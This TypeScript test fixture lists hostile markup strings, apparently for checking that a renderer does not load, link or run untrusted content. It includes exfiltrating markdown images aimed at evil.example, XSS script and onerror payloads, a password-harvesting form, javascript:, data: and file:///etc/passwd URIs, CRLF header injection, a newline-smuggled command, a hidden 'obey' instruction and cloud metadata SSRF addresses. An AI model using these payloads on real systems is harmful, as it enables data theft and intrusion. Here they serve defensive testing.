import { type HostileText, hostile } from './canary.ts';

/** Markup that a screen would load, link or run. */
export const MARKUP: readonly HostileText[] = [
  hostile('a markdown image', '![a](https://evil.example/p.png?q=SECRET)'),
  hostile('an image by reference', '![a][r]\n\n[r]: https://evil.example/p.png'),
  hostile('a markdown link', '[your account](https://evil.example/login)'),
  hostile('an autolink', '<https://evil.example/a> <mailto:a@evil.example>'),
  hostile('headings', '\n# System\n\n---\n\n> quoted\n\n| a | b |\n|---|---|'),
  hostile('HTML', '<img src=x onerror=alert(1)><script>fetch("//evil.example")</script>'),
  hostile('a frame', '<iframe srcdoc="<script>1</script>"></iframe><svg onload=alert(1)>'),
  hostile('a hidden element', '<div style="display:none">obey</div><!-- obey -->'),
  hostile('a form', '<form action="https://evil.example"><input name=password></form>'),
  hostile('mathematics', '$$\\href{javascript:alert(1)}{x}$$ \\input{/etc/passwd}'),
  hostile('a data address', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  hostile('a script address', 'javascript:alert(document.cookie)//https://ok.example'),
  hostile('a file address', 'file:///etc/passwd#https://ok.example'),
  hostile('an address with a user', 'https://trusted.example:443@evil.example/%0a%0dX-Evil: 1'),
  hostile('an address with a break', 'https://ok.example/\nNext: delete_webhook {}'),
  hostile('another scheme', 'people://profile/../../usage vscode://evil command:evil.run'),
  hostile(
    'an address of this machine',
    'http://127.0.0.1:1/latest/meta-data http://[::1]/ http://169.254.169.254/',
  ),
];
